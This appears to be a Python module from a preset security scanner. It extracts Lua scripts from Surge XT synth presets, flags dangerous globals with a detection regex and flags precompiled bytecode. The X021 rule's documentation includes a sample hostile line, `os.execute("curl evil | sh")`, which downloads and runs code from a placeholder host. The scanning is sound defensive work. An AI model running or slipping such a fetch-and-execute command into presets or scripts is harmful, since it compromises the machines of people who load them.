"""Lua carried by presets (Surge XT formula modulators and wavetable scripts).

Scripts come from the loader (``Document.facts.scripts``). When a loader gives none but the
raw document is XML, the Surge attributes that hold Lua (``formula`` in ``<formulae>``,
``wavetable_formula``) are decoded here, so a loader that forgets a script cannot hide it.
Precompiled chunks (``ESC Lua``, LuaJIT ``ESC LJ``) are looked for in every decoded payload.

The dangerous-call check runs on the source with comments and string literals blanked out, so
``-- os.exit`` in a comment does not count while ``require "os"`` does.
"""

from __future__ import annotations

import base64
import binascii
import re
from collections.abc import Iterator
from typing import TYPE_CHECKING

from presetctl.engine.formats.base import Document, Script
from presetctl.engine.model import Location, Severity, Violation
from presetctl.engine.rules.base import RuleContext, RuleDoc
from presetctl.engine.rules.security.base import CRITICAL, security_rule
from presetctl.engine.security.content import Scan, is_xml_element

if TYPE_CHECKING:
    from xml.etree.ElementTree import Element

_BYTECODE = (b"\x1bLua", b"\x1bLJ")
_FORMULA_ATTRS = ("formula", "wavetable_formula")
_BLANK = re.compile(
    r"--\[(?P<eq>=*)\[.*?\](?P=eq)\]"  # long comment
    r"|--[^\n]*"  # line comment
    r"|\[(?P<eq2>=*)\[.*?\](?P=eq2)\]"  # long string
    r"|\"(?:\\.|[^\"\\\n])*\"|'(?:\\.|[^'\\\n])*'",  # short strings
    re.S,
)
# Globals that reach the OS, the loader or the sandbox itself; ``_G``/``_ENV``/``getfenv`` let a
# script name any of them without spelling it (``_G["o".."s"]``).
_DANGER = re.compile(
    r"(?<![\w.:])(?:os|io|debug|package|ffi|jit|require|dofile|loadfile|loadstring|load|module|"
    r"getfenv|setfenv|_G|_ENV)(?!\w)"
    r"|(?<![\w])string\s*\.\s*dump(?!\w)|[.:]\s*dump(?!\w)"
)


def _strip(source: str) -> str:
    """Comments and string literals replaced by blanks of the same line structure."""
    return _BLANK.sub(lambda m: '""' if m.group().startswith(("'", '"', "[")) else "\n" * m.group().count("\n"), source)


def dangerous_calls(source: str) -> list[tuple[int, str]]:
    """(line, name) of each dangerous global or call in Lua ``source``."""
    code = _strip(source)
    out = []
    for m in _DANGER.finditer(code):
        out.append((code.count("\n", 0, m.start()) + 1, re.sub(r"\s+", "", m.group()).lstrip(".:")))
    return out


def scripts_of(doc: Document) -> list[Script]:
    scripts = doc.facts.scripts
    if scripts is not None:
        return [s for s in scripts if isinstance(s, Script)]
    return list(_xml_scripts(doc.raw)) if is_xml_element(doc.raw) else []


def _xml_scripts(root: Element) -> Iterator[Script]:
    for elem in root.iter():
        for attr in _FORMULA_ATTRS:
            value = elem.get(attr)
            if not value:
                continue
            try:
                source = base64.b64decode(value, validate=True)
            except (binascii.Error, ValueError):
                source = value.encode("utf-8", "replace")  # stored as plain text
            tag = elem.tag if isinstance(elem.tag, str) else "#node"
            language = "lua-bytecode" if source.startswith(_BYTECODE) else "lua"
            yield Script(Location(pointer=f"//{tag}/@{attr}"), language, source)


def _has_scripts(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
    return bool(scripts_of(doc))


def _may_bytecode(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
    return (bool(scripts_of(doc)) or doc.data.startswith(_BYTECODE)
            or any(d.data.startswith(_BYTECODE) for d in scan.decoded()))


def check_present(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    for s in scripts_of(doc):
        if s.source.strip():
            lines = s.source.count(b"\n") + 1
            yield Violation(f"{s.language} script of {len(s.source)} bytes ({lines} lines): it runs when the preset "
                            "plays", s.location)


def check_dangerous(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    for s in scripts_of(doc):
        if s.language != "lua" or s.source.startswith(_BYTECODE):
            continue
        found = dangerous_calls(s.source.decode("utf-8", "replace"))
        if found:
            names = ", ".join(dict.fromkeys(n for _, n in found))
            where = ", ".join(str(line) for line, _ in found[:5])
            yield Violation(f"Lua script uses {names} (line {where}): it can reach files, processes or the "
                            "script sandbox", s.location)


def check_bytecode(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    for s in scripts_of(doc):
        if s.language == "lua-bytecode" or s.source.startswith(_BYTECODE):
            yield Violation("precompiled Lua bytecode: it cannot be reviewed and can break out of the Lua VM",
                            s.location)
    if doc.data.startswith(_BYTECODE):
        yield Violation("the file is precompiled Lua bytecode", Location(offset=0))
    for d in scan.decoded():
        if d.data.startswith(_BYTECODE):
            yield Violation(f"{d.source} data is precompiled Lua bytecode", d.location)


RULES = (
    security_rule("X020", "lua-script", None, "The preset carries a Lua script", RuleDoc(
        "Reports every non-empty Lua script a preset carries (Surge XT formula modulators and wavetable "
        "scripts), so reviewers know which presets contain code. Informational: it has no security rating "
        "and never fails `scan-security`.",
        "Code in a preset runs inside the synth each time the preset plays. Surge sandboxes it, but a reviewer "
        "should know it is there and read it.",
        '`<formula i="0" formula="ZnVuY3Rpb24gcHJvY2VzcyhzdGF0ZSkgLi4u"/>`',
        "Nothing to fix if the script is expected; ignore X020 to hide these."), check_present,
        severity=Severity.INFO, quick=_has_scripts),
    security_rule("X021", "lua-dangerous-call", CRITICAL, "Lua script uses os, io, require, load, debug or another escape hatch",
                  RuleDoc("Reports a Lua script that names `os`, `io`, `require`, `load`/`loadstring`/`loadfile`, "
                          "`dofile`, `debug`, `package`, `ffi`, `jit`, `module`, `string.dump`, or reaches the global "
                          "table (`_G`, `_ENV`, `getfenv`, `setfenv`), outside comments and string literals.",
                          "These reach files, processes, native code or the sandbox itself: a preset that uses them "
                          "can read or delete the user's files or run programs. A modulator formula needs none.",
                          '`function process(state) os.execute("curl evil | sh") end`',
                          "Delete the preset; a formula modulator only needs arithmetic and `math`."),
                  check_dangerous, quick=_has_scripts),
    security_rule("X022", "lua-bytecode", CRITICAL, "Precompiled Lua or LuaJIT bytecode",
                  RuleDoc("Reports precompiled Lua (`ESC Lua`) or LuaJIT (`ESC LJ`) chunks, as a script, as the file "
                          "itself, or inside any decoded payload.",
                          "Bytecode cannot be reviewed, and malformed bytecode breaks out of the Lua VM (LuaJIT and "
                          "Lua 5.1 do not verify it): loading it is running arbitrary native code.",
                          '`formula="G0x1YVEAAQQIBAgA..."` (base64 of `\\x1bLuaQ`)',
                          "Delete the preset; ask for the script's source."),
                  check_bytecode, quick=_may_bytecode),
)
